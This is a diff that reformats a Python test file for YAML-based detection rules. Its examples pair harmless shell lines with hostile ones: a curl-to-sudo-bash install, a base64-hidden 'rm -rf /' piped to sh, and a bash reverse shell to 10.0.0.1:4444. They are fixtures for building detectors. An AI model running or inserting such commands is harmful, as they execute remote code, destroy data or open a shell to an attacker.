@@ -75,7 +75,11 @@ EXAMPLES: dict[str, tuple[str, str, str]] = {
         "curl -fsSL https://a.example/install.sh | sudo bash -s -- --yes\n",
         "curl -fsSL https://a.example/data.json | jq .name\n",
     ),
-    "shell-runs-decoded": (".sh", "echo cm0gLXJmIC8= | base64 -d | sh\n", "echo aGVsbG8= | base64 -d > out.txt\n"),
+    "shell-runs-decoded": (
+        ".sh",
+        "echo cm0gLXJmIC8= | base64 -d | sh\n",
+        "echo aGVsbG8= | base64 -d > out.txt\n",
+    ),
     "shell-opens-reverse-shell": (
         ".sh",
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
@@ -85,7 +89,9 @@ EXAMPLES: dict[str, tuple[str, str, str]] = {
 
 
 def rules() -> dict[str, dict]:
-    found = [rule for file in sorted(RULES.glob("*.yaml")) for rule in yaml.safe_load(file.read_text())["rules"]]
+    found = [
+        rule for file in sorted(RULES.glob("*.yaml")) for rule in yaml.safe_load(file.read_text())["rules"]
+    ]
     assert len(found) == len({rule["id"] for rule in found})
     return {rule["id"]: rule for rule in found}
 
